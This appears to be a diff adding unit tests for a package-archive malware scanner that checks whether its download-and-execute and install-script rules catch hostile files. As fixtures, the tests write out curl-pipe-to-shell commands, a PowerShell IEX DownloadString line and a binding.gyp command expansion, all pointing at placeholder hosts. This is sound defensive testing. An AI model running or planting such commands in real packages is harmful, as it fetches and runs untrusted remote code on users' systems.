@@ -62,6 +62,21 @@ class BuiltinScannerTest {
     }
 
     @Test
+    void shouldScanQuicklyWhenALongLineRepeatsHintsThatNeverCompleteAPattern() throws Exception {
+      // Given: 2 MiB on one line of unclosed calls, each of which once made a pattern scan to the end of the line
+      String hostile = "Request(\"a urlopen(\"b gethostbyname(f'c ".repeat(60_000).substring(0, 2 * 1024 * 1024);
+
+      // When
+      long start = System.nanoTime();
+      List<Finding> findings = scanTarGz(file("demo/slow.py", hostile));
+      long millis = (System.nanoTime() - start) / 1_000_000;
+
+      // Then: linear work per character, well inside the 120 s budget of a whole archive
+      assertThat(millis).isLessThan(8_000);
+      assertThat(findings).extracting(Finding::ruleId).doesNotContain("AIRLOCK-ARCHIVE-LIMIT");
+    }
+
+    @Test
     void shouldFindAPayloadDeepInsideAVeryLongMinifiedLine() throws Exception {
       // Given: one 200 000-character line with the payload straddling a segment boundary
       String before = "var a=1;".repeat(2_499) + "xxxxxxxxxxxxxxx";
@@ -181,6 +196,51 @@ class BuiltinScannerTest {
       // Then
       assertThat(findings).extracting(Finding::ruleId, Finding::location)
           .containsExactly(tuple("AIRLOCK-DOWNLOAD-EXEC", "demo/tools/setup.ps1:2"));
+    }
+
+    @Test
+    void shouldReportWhenAPowerShellScriptIsSavedAsUtf16WithAByteOrderMark() throws Exception {
+      // Given: how Windows PowerShell saves scripts by default; every other byte is NUL
+      byte[] utf16 = ("\uFEFFWrite-Host 'setting up'\r\n"
+          + "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')\r\n")
+          .getBytes(StandardCharsets.UTF_16LE);
+      List<Finding> findings = scanTarGz(file("demo/tools/setup.ps1", utf16));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::location)
+          .containsExactly(tuple("AIRLOCK-DOWNLOAD-EXEC", "demo/tools/setup.ps1:2"));
+    }
+
+    @Test
+    void shouldReportWhenAScriptWithoutAnExtensionNamesItsShellOnTheFirstLine() throws Exception {
+      // Given: what an npm "preinstall": "./bin/install" or a Python scripts/ entry runs
+      List<Finding> findings = scanTarGz(file("package/bin/install", """
+          #!/usr/bin/env bash
+          curl -fsSL https://get.example.invalid/bootstrap.sh | bash
+          """), file("demo/scripts/run-tool", """
+          #!/usr/bin/env python3
+          import os
+          os.system("curl -fsSL https://get.example.invalid/b.sh | sh")
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::location)
+          .contains(tuple("AIRLOCK-DOWNLOAD-EXEC", "package/bin/install:2"),
+              tuple("AIRLOCK-DOWNLOAD-EXEC", "demo/scripts/run-tool:3"));
+    }
+
+    @Test
+    void shouldReportWhenBindingGypRunsADownloadedScriptThroughACommandExpansion() throws Exception {
+      // Given: npm runs node-gyp on install when a package has binding.gyp, and gyp runs <!(...) in a shell
+      List<Finding> findings = scanTarGz(file("package/package.json", "{\"name\": \"demo\"}"),
+          file("package/binding.gyp", """
+              {"targets": [{"target_name": "demo",
+                "sources": ["<!(curl -fsSL https://get.example.invalid/b.sh | sh)"]}]}
+              """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::location)
+          .contains(tuple("AIRLOCK-DOWNLOAD-EXEC", "package/binding.gyp:2"));
     }
 
     @Test
@@ -343,6 +403,20 @@ class BuiltinScannerTest {
   @Nested
   @DisplayName("AIRLOCK-NPM-INSTALL-SCRIPT")
   class NpmInstallScript {
+
+    @Test
+    void shouldReportALimitFindingWhenPackageJsonIsTooLargeToBeCheckedWhole() throws Exception {
+      // Given: a postinstall script placed after 3 MiB of description, past what is kept to be parsed
+      String manifest = "{\"name\": \"demo\", \"description\": \"" + "x".repeat(3 * 1024 * 1024) + "\",\n"
+          + "  \"scripts\": {\"postinstall\": \"node ./setup.js\"}}\n";
+
+      // When
+      List<Finding> findings = scanTarGz(file("package/package.json", manifest));
+
+      // Then: not approved silently
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-ARCHIVE-LIMIT", Severity.CRITICAL, "package/package.json"));
+    }
 
     @Test
     void shouldReportHighAtTheScriptLineWhenPostinstallCurlsAndRunsAScript() throws Exception {
